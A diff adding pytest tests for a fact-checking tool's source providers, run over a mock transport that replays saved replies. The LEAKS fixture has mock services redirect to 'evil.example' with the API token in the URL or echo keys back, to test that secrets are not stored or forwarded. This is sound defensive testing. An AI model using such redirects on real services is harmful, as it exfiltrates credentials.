@@ -1,0 +1,514 @@
+"""All providers together, over a transport that plays the services with their saved replies."""
+
+import gzip
+import io
+import json
+import sqlite3
+from dataclasses import replace
+from pathlib import Path
+from urllib.parse import parse_qs, urlsplit
+
+import httpx
+import pytest
+import yaml
+from builders import a_claim, a_document
+from warcio.archiveiterator import ArchiveIterator
+
+from claims.model.errors import DamagedData
+from claims.model.settings import SECRETS
+from claims.steps.coverage import coverage
+from claims.steps.diagnose import diagnose
+from claims.steps.find_sources import Findings, Wish, find
+from claims.steps.gather_evidence import gather_evidence
+from claims.steps.listing import everything
+from claims.steps.provider_states import provider_states
+from claims.steps.verify import verify
+from db import rows, searches
+
+REPLIES = Path(__file__).resolve().parents[1] / "sources/replies"
+KEYS = {name: f"s3cret-{name}-0123456789" for name in SECRETS}
+PAGE = b"<html><title>A page</title><article><p>In all 15,051 soldiers died, it is told here.</p></article></html>"
+TEXT = (
+    "Inflation in Turkey reached 72 percent in 2022, a study of the U.S. Supreme Court ruling found. "
+    "The vaccine page https://city.example/budget said so. It rained.\n"
+)
+SAYS = (
+    "Inflation in Turkey reached 72 percent in 2022, a study of the U.S. Supreme Court ruling found"
+)
+HOSTS = {
+    "wiki.example": "mediawiki", "www.wikidata.org": "wikidata",
+    "factchecktools.googleapis.com": "factcheck", "api.crossref.org": "crossref",
+    "api.openalex.org": "openalex", "www.ebi.ac.uk": "europepmc",
+    "api.gdeltproject.org": "gdelt", "api.worldbank.org": "worldbank",
+    "www.courtlistener.com": "courtlistener", "catalog.data.gov": "datagov",
+    "web.archive.org": "wayback", "timetravel.mementoweb.org": "memento",
+    "search.desk.example": "searxng", "api.search.brave.com": "brave", "kiwix.example": "zim",
+}  # fmt: skip
+PAGE_HOSTS = (
+    "a.example", "b.example", "doi.org", "repo.example", "openalex.org", "facts.example",
+    "other.example", "europepmc.org", "data.cityofchicago.org", "archive.example", "arquivo.example",
+)  # fmt: skip
+APIS = ("/w/api.php", "/v1alpha1", "/works", "/europepmc/webservices", "/api/", "/v2/", "/search",
+        "/cdx/", "/timemap/", "/searx/search", "/res/v1")  # fmt: skip
+
+
+def answer(status=200, body=b"", kind="application/json", **headers):
+    headers = {"Content-Type": kind, **{k.replace("_", "-"): v for k, v in headers.items()}}
+    return httpx.Response(status, headers=headers, stream=httpx.ByteStream(body))
+
+
+class World:
+    """Services that answer as saved, and pages that can be read. `odd` answers instead, by provider."""
+
+    def __init__(self, sort="found", page=PAGE, page_status=200, **odd):
+        self.sort, self.page, self.page_status, self.odd = sort, page, page_status, odd
+        self.asked = []
+
+    def __call__(self, request):
+        host, path = request.url.host, request.url.path
+        self.asked.append(request)
+        if path == "/robots.txt":
+            return answer(404)
+        name = HOSTS.get(host)
+        if not name or not path.startswith(APIS):
+            return answer(self.page_status, self.page, "text/html")
+        if name in self.odd:
+            return self.odd[name](request)
+        case = yaml.safe_load((REPLIES / f"{name}.yaml").read_text())[self.sort][0]
+        step = {"wbgetentities": 1}.get(request.url.params.get("action"), 0)
+        step += request.url.params.get("props") == "labels"
+        chosen = case["answers"][min(step, len(case["answers"]) - 1)]
+        return answer(chosen.get("status", 200), chosen["body"].encode())
+
+    def names(self):
+        return [
+            HOSTS[r.url.host]
+            for r in self.asked
+            if r.url.host in HOSTS and r.url.path.startswith(APIS)
+        ]
+
+
+@pytest.fixture
+def desk(edges):
+    """The edges of a desk that has every key and instance."""
+    settings = replace(
+        edges.settings,
+        mediawiki="https://wiki.example/w/api.php",
+        searxng="https://search.desk.example/searx",
+        zim="https://kiwix.example",
+        allow_hosts=",".join(f"{host}:443" for host in (*HOSTS, *PAGE_HOSTS)),  # without pauses
+        **KEYS,
+    )
+    return replace(edges, settings=settings)
+
+
+@pytest.fixture
+def claim(database):
+    document = a_document(
+        database, TEXT, url="https://news.example/article", published="2026-11-20"
+    )
+    return a_claim(database, document, SAYS, claim_text=SAYS + ".", dates=["2022"])
+
+
+def hunt(edges, world, claims, **wish):
+    used = replace(edges, transport=httpx.MockTransport(world))
+    findings = Findings()
+    list(find(used, claims, Wish(**wish), findings=findings))
+    return findings
+
+
+def outcomes(findings):
+    return {s["provider"]: s["outcome"] for s in findings.searches}
+
+
+def every_byte(edges):
+    """All that was written: the database with its log, and the archive unpacked."""
+    edges.database.execute("PRAGMA wal_checkpoint(TRUNCATE)")
+    written = edges.path.read_bytes()
+    for path in edges.archive.glob("*.warc.gz"):
+        written += path.read_bytes() + gzip.decompress(path.read_bytes())
+    return written
+
+
+def test_the_claim_leads_to_providers_and_each_keeps_its_reason(desk, claim):
+    world = World()
+    findings = hunt(desk, world, [claim])
+    found = outcomes(findings)
+    assert found.pop("library") == "not_measured", "no other document is there"
+    assert found.pop("claimreview") == "not_measured"
+    assert set(found) == {
+        "factcheck", "mediawiki", "zim", "worldbank", "crossref", "openalex", "datagov",
+        "courtlistener", "searxng", "brave", "europepmc",
+    }  # fmt: skip
+    assert set(found.values()) == {"found"}
+    assert "gdelt" not in world.names(), "the claim is of 2022"
+    reasons = {s["provider"]: s["reason"] for s in findings.searches}
+    assert "kind quantity" in reasons["worldbank"]
+    assert "Court" in reasons["courtlistener"] or "Supreme" in reasons["courtlistener"]
+    assert "study" in reasons["crossref"]
+    assert set(findings.unasked) == {"claimreview"}
+    assert findings.failures == []
+
+
+def test_no_key_is_written_anywhere(desk, claim, capsys):
+    for sort in ("found", "error", "throttled"):
+        hunt(desk, World(sort), [claim], refresh=True)
+    report = json.dumps(
+        [diagnose(desk), list(provider_states(desk)), everything(desk.database, "claims", claim)]
+    )
+    written = every_byte(desk) + report.encode() + repr(desk.settings).encode()
+    written += "".join(capsys.readouterr()).encode()
+    for name, key in KEYS.items():
+        assert key.encode() not in written, name
+    assert b"api_key=***" in written, "that a key was sent is told"
+
+
+def test_every_key_is_sent_to_its_own_service_alone(desk, claim):
+    world = World()
+    hunt(desk, world, [claim])
+    holders = {"factcheck_key": "factcheck", "openalex_key": "openalex",
+               "courtlistener_token": "courtlistener", "brave_key": "brave"}  # fmt: skip
+    for name, key in KEYS.items():
+        to = {
+            HOSTS.get(r.url.host)
+            for r in world.asked
+            if key in str(r.url) + str(r.headers.multi_items())
+        }
+        assert to == {holders[name]}
+
+
+LEAKS = [
+    ("brave", lambda r: answer(302, Location="https://evil.example/?t=" + r.headers["x-subscription-token"])),
+    ("openalex", lambda r: answer(200, json.dumps({"message": f"unknown {r.url.params['api_key']}"}).encode())),
+    ("openalex", lambda r: answer(200, gzip.compress(json.dumps({"results": [
+        {"id": "https://openalex.org/W1", "display_name": f"key {r.url.params['api_key']}"}]}).encode()),
+        Content_Encoding="gzip")),
+    ("factcheck", lambda r: answer(400, json.dumps({"error": {"message": f"bad {r.url}"}}).encode())),
+    ("factcheck", lambda r: answer(301, Location=str(r.url).replace("https", "http") + "&again=1")),
+    ("courtlistener", lambda r: answer(401, r.headers["authorization"].encode(), X_Echo=r.headers["authorization"])),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("name", "leak"), LEAKS)
+def test_a_service_that_repeats_the_key_is_not_kept_with_it(desk, claim, name, leak):
+    world = World(**{name: leak})
+    findings = hunt(desk, world, [claim], providers=(name,))
+    told = json.dumps(findings.searches) + str(findings.failures)
+    for key in KEYS.values():
+        assert key not in told
+        assert key.encode() not in every_byte(desk)
+    elsewhere = [r for r in world.asked if r.url.host == "evil.example"]
+    assert all(KEYS["brave_key"] not in str(r.headers.multi_items()) for r in elsewhere)
+
+
+def test_every_answer_is_in_the_archive_with_its_digest(desk, claim):
+    hunt(desk, World(), [claim])
+    kept = list(rows.select(desk.database, "replies"))
+    assert {r["http_status"] for r in kept} == {200}
+    assert [r["request_url"] for r in kept if r["warc_file"] is None] == [
+        r["request_url"] for r in kept if "brave" in r["request_url"]
+    ], "the plan paid for decides whether Brave's may be kept"
+    in_warc = set()
+    for path in desk.archive.glob("*.warc.gz"):
+        for record in ArchiveIterator(io.BytesIO(path.read_bytes())):
+            in_warc.add(record.rec_headers.get_header("WARC-Target-URI"))
+    assert {r["request_url"] for r in kept if r["warc_file"]} <= in_warc
+
+
+def candidates(edges):
+    return [
+        {k: v for k, v in row.items() if k != "snapshot"} | {"tied": row["snapshot"] is not None}
+        for row in rows.select(edges.database, "candidates", order_by="search, rank")
+    ]
+
+
+def nobody(request):
+    raise AssertionError(f"asked {request.url} although offline")
+
+
+def test_offline_replays_the_answers_and_gives_the_same_candidates(desk, claim):
+    hunt(desk, World(), [claim])
+    before, made = candidates(desk), {s["id"]: s["outcome"] for s in searches_of(desk, claim)}
+    kept = "search IN (SELECT id FROM searches WHERE provider NOT IN ('brave', 'library'))"
+    desk.database.execute(f"DELETE FROM candidates WHERE {kept}")
+    for without_keys in (
+        desk,
+        replace(desk, settings=replace(desk.settings, **dict.fromkeys(SECRETS, ""))),
+    ):
+        findings = hunt(without_keys, nobody, [claim], offline=True)
+        assert findings.failures == []
+        assert candidates(desk) == before
+        assert {s["id"]: s["outcome"] for s in searches_of(desk, claim)} == made
+
+
+def searches_of(edges, claim):
+    return list(rows.select(edges.database, "searches", where="claim = ?", values=[claim["id"]]))
+
+
+def test_a_damaged_answer_is_told_and_the_stored_candidates_stand(desk, claim):
+    hunt(desk, World(), [claim], providers=("crossref",))
+    before = candidates(desk)
+    desk.database.execute("UPDATE replies SET reply_digest = 'sha256:0'")
+    findings = hunt(desk, nobody, [claim], providers=("crossref",), offline=True)
+    assert [f.what for f in findings.failures] == ["provider crossref"]
+    assert "does not match its digest" in findings.failures[0].why
+    assert candidates(desk) == before
+
+
+def test_verify_reads_the_answers_too(desk, claim):
+    hunt(desk, World(), [claim], providers=("crossref", "wikidata"))
+    counts = {}
+    list(verify(desk, counts))
+    assert counts["replies of providers"] >= 1
+    desk.database.execute("UPDATE replies SET reply_digest = 'sha256:0'")
+    with pytest.raises(DamagedData, match="does not match its digest"):
+        list(verify(desk, counts))
+
+
+def test_what_was_never_asked_is_not_measured_offline(desk, claim):
+    findings = hunt(desk, nobody, [claim], providers=("openalex", "brave"), offline=True)
+    assert outcomes(findings) == {"openalex": "not_measured", "brave": "not_measured"}
+    assert {s["detail"] for s in findings.searches} == {"asked to stay offline"}
+
+
+def test_a_figure_that_is_told_is_kept_as_text_and_becomes_evidence(desk, claim):
+    world = World()
+    hunt(desk, world, [claim], providers=("worldbank",))
+    (candidate,) = rows.select(desk.database, "candidates")
+    assert candidate["url"] == "https://data.worldbank.org/indicator/FP.CPI.TOTL.ZG?locations=TR"
+    copy = rows.get(desk.database, "snapshots", candidate["snapshot"])
+    assert copy["url"].endswith("#as-told-by-worldbank")
+    assert "Turkiye, 2022: 72.31" in copy["text"]
+    assert [r.url.host for r in world.asked] == ["api.worldbank.org"], "its page draws by script"
+    list(gather_evidence(desk, [claim], top=3))
+    assert rows.count(desk.database, "evidence") == 1
+
+
+def test_an_abstract_serves_where_the_page_cannot_be_read(desk, claim):
+    findings = hunt(desk, World(page_status=403), [claim], providers=("crossref",))
+    told, bare = rows.select(desk.database, "candidates", order_by="rank")
+    assert rows.get(desk.database, "snapshots", told["snapshot"])["text"].endswith(
+        "series of children."
+    )
+    assert told["notes"] == ["retracted"]
+    assert rows.get(desk.database, "snapshots", bare["snapshot"])["outcome"] == "http_error"
+    assert {f.what for f in findings.failures} == {told["url"], bare["url"]}
+    again = hunt(desk, World(page_status=403), [claim], providers=("crossref",))
+    assert {f.what for f in again.failures} == {bare["url"]}, "what has a text is left in peace"
+
+
+def test_wikidata_is_asked_in_three_steps_and_each_answer_is_kept(desk, database):
+    document = a_document(database, "Kabul had 4.6 million inhabitants in 2021.\n")
+    claim = a_claim(database, document, "Kabul had 4.6 million inhabitants in 2021", dates=["2021"],
+                    claim_text="Kabul had 4.6 million inhabitants in 2021.")  # fmt: skip
+    findings = hunt(desk, World(), [claim], providers=("wikidata",))
+    assert outcomes(findings) == {"wikidata": "found"}
+    kept = searches.replies_of(database, findings.searches[0]["id"])
+    assert [r["ordinal"] for r in kept] == [1, 2, 3]
+    assert ["props=labels&" in r["request_url"] for r in kept] == [False, False, True]
+    copy = rows.get(database, "snapshots", next(rows.select(database, "candidates"))["snapshot"])
+    assert "population: 4,601,789 (as of 2021)" in copy["text"]
+
+
+def throttle(_):
+    return answer(429, b"slow down", "text/plain", Retry_After="600")
+
+
+def test_a_throttled_provider_is_left_alone_until_it_said(desk, claim):
+    findings = hunt(desk, World(crossref=throttle), [claim], providers=("crossref",))
+    (row,) = findings.searches
+    assert row["outcome"] == "throttled"
+    assert row["retry_at"] > desk.now()
+    world = World()
+    again = hunt(desk, world, [claim], providers=("crossref",))
+    assert world.asked == []
+    assert (again.searches[0]["outcome"], again.searches[0]["retry_at"]) == (
+        "throttled",
+        row["retry_at"],
+    )
+    state = {s["name"]: s for s in provider_states(desk)}["crossref"]
+    assert (state["usable"], row["retry_at"] in state["why_not"]) == (False, True)
+    later = replace(desk, now=lambda: "2030-01-01T00:00:00Z")
+    assert outcomes(hunt(later, World(), [claim], providers=("crossref",))) == {"crossref": "found"}
+
+
+def test_a_used_up_limit_is_known_over_runs(desk, database):
+    document = a_document(database, "The U.S. Supreme Court ruled on Roe. " * 7)
+    claims = [
+        a_claim(database, document, "The U.S. Supreme Court ruled on Roe", claim_text=f"The U.S. Supreme Court ruled on Roe, number {n}.",
+                id=f"c-000000000000000{n}") for n in range(7)
+    ]  # fmt: skip
+    moving = replace(desk, now=lambda: "2026-11-24T09:00:00Z")
+    for claim in claims[:5]:
+        hunt(moving, World(), [claim], providers=("courtlistener",))
+    database.execute("UPDATE replies SET at = '2026-11-24T08:59:30Z'")
+    world = World()
+    findings = hunt(moving, world, claims[5:], providers=("courtlistener",))
+    assert world.asked == []
+    assert outcomes(findings) == {"courtlistener": "throttled"}
+    assert {s["retry_at"] for s in findings.searches} == {"2026-11-24T09:00:30Z"}
+
+
+def test_without_keys_each_provider_says_so_and_nothing_has_failed(edges, claim):
+    used = replace(
+        edges, settings=replace(edges.settings, mediawiki="https://wiki.example/w/api.php")
+    )
+    findings = hunt(used, World(), [claim])
+    by_name = {s["provider"]: s for s in findings.searches}
+    for name, word in (("openalex", "CITETRAIL_OPENALEX_KEY"), ("brave", "CITETRAIL_BRAVE_KEY"),
+                       ("courtlistener", "CITETRAIL_COURTLISTENER_TOKEN"), ("zim", "CITETRAIL_ZIM"),
+                       ("searxng", "CITETRAIL_SEARXNG"), ("factcheck", "CITETRAIL_FACTCHECK_KEY")):  # fmt: skip
+        assert by_name[name]["outcome"] == "not_measured"
+        assert word in by_name[name]["detail"]
+        assert name in findings.unasked
+    assert not [f for f in findings.failures if "provider" in f.what]
+
+
+def test_a_provider_asked_for_by_name_that_cannot_be_asked_is_a_failure(edges, claim):
+    findings = hunt(edges, nobody, [claim], providers=("brave",))
+    assert [f.what for f in findings.failures] == ["provider brave"]
+    assert "no key" in findings.failures[0].why
+
+
+@pytest.mark.parametrize("key", ["k7x2", "has a space in it", "nö-ascii-key-1234"])
+def test_a_key_that_can_be_none_is_told_without_showing_it(desk, claim, key):
+    used = replace(desk, settings=replace(desk.settings, brave_key=key))
+    findings = hunt(used, nobody, [claim], providers=("brave",))
+    assert "brave_key" in findings.failures[0].why
+    assert key not in str(findings.failures)
+
+
+def test_a_page_that_is_gone_leads_to_its_captures(desk, claim):
+    def world(request):
+        if request.url.host == "a.example":
+            return answer(404, b"gone", "text/html")
+        return played(request)
+
+    played = World()
+    found = hunt(desk, world, [claim])
+    late = [s for s in found.searches if s["provider"] in {"wayback", "memento"}]
+    assert {s["provider"] for s in late} == {"wayback", "memento"}
+    assert all("https://a.example/1" in s["query"] for s in late)
+    assert all("https://a.example/1" in s["reason"] for s in late)
+
+
+def test_the_same_request_is_sent_once_a_run(desk, database):
+    document = a_document(database, "Kabul fell in 2021. Kabul fell in 2021.\n")
+    first = a_claim(database, document, "Kabul fell in 2021", claim_text="Kabul fell in 2021.")
+    second = a_claim(
+        database, document, "Kabul fell in 2021. Kabul", claim_text="Kabul fell in 2021."
+    )
+    world = World()
+    findings = hunt(desk, world, [first, second], providers=("mediawiki",))
+    assert len(world.names()) == 1
+    assert [s["outcome"] for s in findings.searches] == ["found", "found"]
+
+
+def test_more_pages_are_asked_for_when_more_are_wanted(desk, claim):
+    hunt(desk, World(), [claim], providers=("crossref",), top=2)
+    world = World()
+    hunt(desk, world, [claim], providers=("crossref",), top=2)
+    assert world.names() == []
+    hunt(desk, world, [claim], providers=("crossref",), top=9)
+    assert world.names() == ["crossref"]
+
+
+def test_a_run_that_broke_off_is_taken_up_without_asking_again(desk, claim):
+    hunt(desk, World(), [claim], providers=("worldbank",))
+    desk.database.execute("UPDATE candidates SET snapshot = NULL")
+    desk.database.execute("DELETE FROM snapshots")
+    hunt(desk, nobody, [claim], providers=("worldbank",))
+    (candidate,) = rows.select(desk.database, "candidates")
+    assert rows.get(desk.database, "snapshots", candidate["snapshot"])["outcome"] == "stored"
+
+
+def test_claimreview_files_are_searched_offline(edges, database, tmp_path):
+    folder = tmp_path / "reviews"
+    folder.mkdir()
+    for name in ("found", "malformed"):
+        case = yaml.safe_load((REPLIES / "claimreview.yaml").read_text())[name][0]
+        (folder / f"{name}.json").write_text(case["answers"][0]["body"])
+    claim = a_claim(database)
+    used = replace(edges, settings=replace(edges.settings, claimreview=str(folder)))
+    findings = hunt(used, nobody, [claim], providers=("claimreview",), offline=True)
+    assert outcomes(findings) == {"claimreview": "found"}
+    assert [Path(f.what).name for f in findings.failures] == ["malformed.json"]
+    (candidate,) = rows.select(database, "candidates")
+    assert candidate["notes"] == ["fact-check: Mostly true"]
+    copy = rows.get(database, "snapshots", candidate["snapshot"])
+    assert "Facts Desk rated this claim: Mostly true" in copy["text"]
+
+
+def test_nothing_found_is_said_only_when_all_queries_were_answered(desk, claim):
+    calls = []
+
+    def first_empty_then_throttled(request):
+        calls.append(request)
+        return answer(200, b'{"batchcomplete": true}') if len(calls) == 1 else throttle(request)
+
+    hunt(desk, World(mediawiki=first_empty_then_throttled), [claim], providers=("mediawiki",))
+    (together,) = coverage(desk.database, claim["id"])
+    assert (together["provider"], together["outcome"], together["searches"]) == (
+        "mediawiki",
+        "throttled",
+        2,
+    )
+    assert together["retry_at"]
+    hunt(
+        replace(desk, now=lambda: "2030-01-01T00:00:00Z"),
+        World("empty"),
+        [claim],
+        providers=("mediawiki",),
+    )
+    (together,) = coverage(desk.database, claim["id"])
+    assert together["outcome"] == "nothing_found"
+
+
+@pytest.mark.parametrize("how", ["the key is gone", "it throttles", "the network is gone"])
+def test_answers_that_are_there_are_never_lost(desk, claim, how):
+    hunt(desk, World(), [claim], providers=("openalex",))
+    before, made = candidates(desk), searches_of(desk, claim)
+    used, world = desk, World(openalex=throttle)
+    if how == "the key is gone":
+        used = replace(desk, settings=replace(desk.settings, openalex_key=""))
+    if how == "the network is gone":
+        world = unreachable
+    findings = hunt(used, world, [claim], providers=("openalex",), refresh=True)
+    assert "provider openalex" in [f.what for f in findings.failures]
+    assert [s["outcome"] for s in findings.searches] == ["found"]
+    assert candidates(desk) == before
+    after = searches_of(desk, claim)
+    assert bool(after[0].pop("retry_at")) is (how == "it throttles")
+    assert after == [{k: v for k, v in row.items() if k != "retry_at"} for row in made]
+
+
+def unreachable(_):
+    raise httpx.ConnectError("no route")
+
+
+def test_once_asked_it_is_no_longer_said_that_a_provider_was_not(edges, desk, claim):
+    hunt(edges, nobody, [claim], providers=("worldbank", "openalex"), offline=True)
+    hunt(desk, World("empty"), [claim], providers=("worldbank", "openalex"))
+    assert {c["provider"]: c["outcome"] for c in coverage(desk.database, claim["id"])} == {
+        "worldbank": "nothing_found", "openalex": "nothing_found",
+    }  # fmt: skip
+
+
+def test_a_run_twice_adds_nothing_and_asks_nobody(desk, claim):
+    hunt(desk, World(), [claim])
+    before = {t: rows.count(desk.database, t) for t in rows.TABLES}
+    world = World()
+    hunt(desk, world, [claim])
+    assert world.names() == []
+    assert {t: rows.count(desk.database, t) for t in rows.TABLES} == before
+    assert sqlite3.connect(desk.path).execute("PRAGMA integrity_check").fetchone() == ("ok",)
+
+
+def test_queries_are_told_by_place_and_addresses_hold_what_was_asked(desk, claim):
+    findings = hunt(desk, World("empty"), [claim], providers=("europepmc",))
+    assert [s["place"] for s in findings.searches] == [1, 2, 3]
+    for row in findings.searches:
+        asked = parse_qs(urlsplit(row["request_url"]).query)["query"][0]
+        assert set(asked.split()) <= set(row["query"].replace(".", " ").split()) | set(
+            row["query"].split()
+        )
